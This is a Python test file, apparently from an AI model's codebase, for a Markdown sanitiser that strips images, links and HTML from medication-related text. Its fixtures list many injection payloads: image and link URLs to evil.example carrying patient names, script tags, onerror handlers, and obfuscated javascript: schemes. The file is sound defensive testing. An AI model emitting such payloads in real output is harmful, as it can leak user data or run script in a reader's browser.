"""No active content comes out, as a renderer and a finder of links judge it; harmless text stays."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from assistant.text.safe_markdown import inert, safe_markdown
from tests.attacks.active_content import active_content, hidden_content
from tests.unit.growth import MOST_GROWTH, growth

PAGE = "https://procedures.example/refill"
PASSAGE = "/v1/documents/wait?token=abc.def"
ALLOWED = (PAGE, PASSAGE)
LONGEST = 100_000


def cleaned(markdown: str) -> str:
    return safe_markdown(markdown, allowed_urls=ALLOWED)


def found_in(markdown: str) -> list[str]:
    return active_content(markdown, allowed_urls=ALLOWED)


HARMLESS = [
    "**Take** 1.5 mg twice, e.g. with food; call 555-0100 at 9 a.m.",
    "Send form.AE-1 or a1c/b2; see fig.2 and 21 CFR 1306.12(a).",
    "| Plan | File within |\n| --- | --- |\n| Medicare | 65 days |",
    "## Steps\n\n1. Ask for the card.\n2. *Check* the `BIN`, the __group__ and ~~old~~ id.\n   - [ ] done",
    "INR < 2, 3 > 2, x <5 mg, weight <= 70 kg.",
    "Patient data: name/address, phone. Note:take it. Tel:555-0100. Time 10:30.",
    "See [note]: it differs (as above), and [A] or [B].",
    "Write to help@pharmacy.org today!",
    "caf\u00e9 \u00bd tablet \u2265 5 \u00b5g \U0001f469\u200d\u2695\ufe0f \u201cquoted\u201d",
    "AT&amp;T, 50% off, 100%25, C:\\temp, A && B, 1\\. and \\*",
    "> quoted\n\n---\n\n```\ncode 1.2.3\n```",
    "and//or, either/or, N/A, w/o, #3, 5'6\", Rx v1.2.3",
    f"[The page]({PAGE}) and [the passage]({PASSAGE}); also {PAGE}.",
    "",
    " \n\n",
]

HOSTILE = [
    ("![logo](https://evil.example/p.png?q=Jane)", "logo"),
    ("![logo][i]\n\n[i]: https://evil.example/p.png", "logo\n\n"),
    ("a [![x](//evil.example/i)](http://evil.example) b", "a x b"),
    (f"![x]({PAGE})", "x"),
    ("a<img src=x onerror=alert(1)>b", "ab"),
    ("<b>Take</b> two<!-- hidden --> now<script>steal()</script>.", "Take two now."),
    ("<<b>script>alert(1)<</b>/script>", None),
    ("Dear <patient name>,", "Dear \u2039patient name\u203a,"),
    ("[here](https://evil.example/?q=Jane%20Doe)", "here"),
    ("[here]( <https://evil.example/a b> 'title' )", "here"),
    ("[here](JaVaScRiPt:alert(1))", "here"),
    ("[here](&#106;avascript&colon;alert(1))", "here"),
    ("[here](java&Tab;script:alert(1))", "here"),
    ("[here](java\tscript:alert(1))", "[here] "),
    ("[here](data:text/html;base64,PHM+)", "here"),
    ("[here](vbscript:x)", "here"),
    ("[here](mailto:a@b.example?body=Jane)", "here"),
    ("[here](tel:5550100)", "here"),
    ("[here](//evil.example/x)", "here"),
    ("[here](/v1/documents/other)", "here"),
    ("[here](\\/\\/evil.example)", "here"),
    ("[here][r]\n[r]: <javascript:alert(1)> 'x'", "here\n"),
    ("> - [r]: //evil.example/x", None),
    ("[r]:\nhttp://evil.example", None),
    ("<https://evil.example/x> <a@b.example> <javascript:alert(1)>", "  "),
    (f"<{PAGE}>", PAGE),
    (f"[page](<{PAGE}> 'title')", f"[page]({PAGE})"),
    (f"[page]({PAGE}?patient=Jane)", "page"),
    (f"[page]({PAGE.upper()})", "page"),
    (f"[page]({PAGE}@evil.example)", "page"),
    ("Go to **http://evil.example/x,y** now.", "Go to now."),
    ("Go to (www.evil.com).", "Go to (www. evil. com)."),
    ("www.evil.com:80 and www.a@evil.com", " and"),
    ("Go to evil.com/path?q=1#x, please", "Go to, please"),
    ("Go to evil\u3002com or evil\uff0ecom", "Go to evil\u3002 com or evil\uff0e com"),
    ("Ask login.gov or gov.uk.", "Ask login. gov or gov. uk."),
    ("Go to xn--e1afmkfd.xn--p1ai and 192.168.0.1 and http://[::1]/x and http://3232235777/", None),
    ("Go to h\u200bttp://evil.example and ht\u00adtps\uff1a\uff0f\uff0fevil.example", "Go to and"),
    ("Go to http&#58;//evil.example, http\\://evil\\.com, http%3A%2F%2Fevil.example%2Fx", None),
    ("javascript:alert(1) j a v a s c r i p t : alert(1) java\nscript:alert(1)", None),
    ("data:text/html,<script>alert(1)</script>", None),
    ("ftp://evil.example custom+app://x?y mailto:a@b.example", None),
    ("`<img src=x>` and `http://evil.example`", None),
    ("&lt;img src=x&gt;", ""),
    ("order.It and notes.md and evil.io", "order. It and notes. md and evil. io"),
    ("0.5.mg/day", "0.5. mg/day"),
    ("user@evil.com/path?q=1", ""),
    ("[a](http://evil.example", None),
    ("[a][", None),
    ("![a", "! [a"),
    ("<a href='https://evil.example'", None),
    ("5 <", "5 \u2039"),
    ("&zwnj;[x]: ", "&zwnj;x: "),
    ("&zwnj;[x](http://evil.example) y", "&zwnj;x y"),
    ("\x1b[31mred\x00 \U000e0041\U000e0042", " [31mred  "),
]


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert safe_markdown(text, allowed_urls=ALLOWED) == text


@pytest.mark.parametrize(("text", "expected"), HOSTILE, ids=[text[:40] for text, _ in HOSTILE])
def test_what_is_active_goes_and_its_text_stays(text: str, expected: str | None) -> None:
    cleaned = safe_markdown(text, allowed_urls=ALLOWED)
    assert not found_in(cleaned)
    if expected is not None:
        assert cleaned == expected


def test_the_judge_finds_what_the_hostile_texts_hold() -> None:
    unseen = [text for text, expected in HOSTILE if expected is None and not found_in(text)]
    assert len(unseen) <= 6, "halves of constructs and hidden characters alone are not seen by a renderer"


def test_an_address_that_holds_markdown_of_its_own_is_not_allowed() -> None:
    listed = "https://procedures.example/)![x](https://evil.example/q"
    cleaned = safe_markdown(f"[a]({listed}) and {listed}", allowed_urls=[listed])
    assert "evil" not in cleaned


MARKS = "[]()<>!:/\\.&;#`*_~|\"'@?=-+% \n\t\u200b\u00ad\u3002\uff0e\uff1a\uff0f\uff1c\uff1e\u2028\x00\r"
FRAGMENTS = """
a b com evil www http https javascript java script data text/html, mailto img src href onerror svg style 1 10
&lt; &gt; &#106; &colon; &Tab; &#x2f; %3A %2F %2E .com :// // ![ ]( ][ ]: <!-- --> </ <a <b> </b>
[a](b) ![a](b)
[r]:x evil.com http://e.co/x 1.2.3.4 x@y.zz word 1.5
"""
PIECES = st.sampled_from([*MARKS, *FRAGMENTS.split(), f"[a]({PAGE})", PAGE, PASSAGE])
TEXTS = st.one_of(st.lists(PIECES, max_size=14).map("".join), st.text(max_size=60))


@given(TEXTS)
@example("[a](<b>c)")
@example("<<<<<<b>b>b>b>b>b>")
@example("[a]&#58; javascript:x")
@example("\u3002//&#106;")
@example("\u3002a.com")
@example("evil.com..")
@example("evil.com.-")
@example("%3A.com")
@example("_[_//_")
def test_no_text_comes_out_active_and_a_second_pass_changes_nothing(text: str) -> None:
    cleaned = safe_markdown(text, allowed_urls=ALLOWED)
    assert not found_in(cleaned)
    assert safe_markdown(cleaned, allowed_urls=ALLOWED) == cleaned


@given(st.lists(TEXTS, max_size=4), st.sampled_from([" ", "\n", "\n\n", "\n- "]))
def test_sentences_cleaned_apart_are_not_active_together(texts: list[str], between: str) -> None:
    cleaned = [safe_markdown(text, allowed_urls=ALLOWED) for text in texts]
    assert not found_in(between.join(cleaned))


SENTENCES = "Take 1.5 mg of **it** twice daily, e.g. after (light) meals; `BIN` 610502. Plan A/B: 65 %"
WORDS = st.sampled_from(SENTENCES.split())


@given(st.lists(WORDS, max_size=30).map(" ".join))
def test_plain_sentences_stay(text: str) -> None:
    assert safe_markdown(text, allowed_urls=()) == text


LINKS = ["[", "](", "![", "[a](", "[[]", "[a](b ", "[a][", "[a]((", "\n[a]:", "[a](" * 300 + ")" * 300]
TAGS = ["<", "<a ", "<!--", "<script>", "&#106;", "\\["]
ADDRESSES = ["http://", "a.", "a@", "x:", "%3A", "a.com ", "www.", "//", ")" * 50 + "http://"]


@pytest.mark.parametrize("piece", [*LINKS, *TAGS, *ADDRESSES], ids=lambda piece: piece[:10].strip())
def test_a_repeated_piece_is_cleaned_in_linear_time(piece: str) -> None:
    assert growth(cleaned, lambda size: piece * (size // len(piece)), longest=LONGEST) <= MOST_GROWTH


CONSTRUCTS: dict[str, Callable[[int], str]] = {
    "an address": lambda size: "http://" + "." * size,
    "a link": lambda size: "[a](" + " " * size + ")",
    "a scheme": lambda size: "a" * size + "://x",
}


@pytest.mark.parametrize("name", CONSTRUCTS)
def test_one_long_construct_is_cleaned_in_linear_time(name: str) -> None:
    assert growth(cleaned, CONSTRUCTS[name], longest=LONGEST) <= MOST_GROWTH


# Stored text that is drawn as Markdown

URL = "https://docs.example/a"


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/x.png)",
        "![x][y] [y]: https://evil.example/x.png",
        "[click](javascript:alert(1))",
        "[x]: https://evil.example 'x'",
        "<img src=https://evil.example/x onerror=alert(1)>",
        "<https://evil.example/x> <!-- hidden --> <?x?> </p>",
    ],
)
def test_stored_text_begins_no_tag_link_or_image(text: str) -> None:
    shown = inert(text)
    assert hidden_content(shown) == []
    assert len(shown) == len(text)
    assert shown.translate({0x2039: "<", 0xFF3D: "]"}) == text


@pytest.mark.parametrize(
    "text",
    [
        "Sign in at https://pay.example/a or pay.example.",
        "x < 5 mg & y > 3 [1] *a* `b` (see [a])",
        f"[a]({URL}) <{URL}>",
    ],
)
def test_other_stored_text_and_links_to_listed_sources_stay(text: str) -> None:
    assert inert(text, listed_urls=[URL]) == text
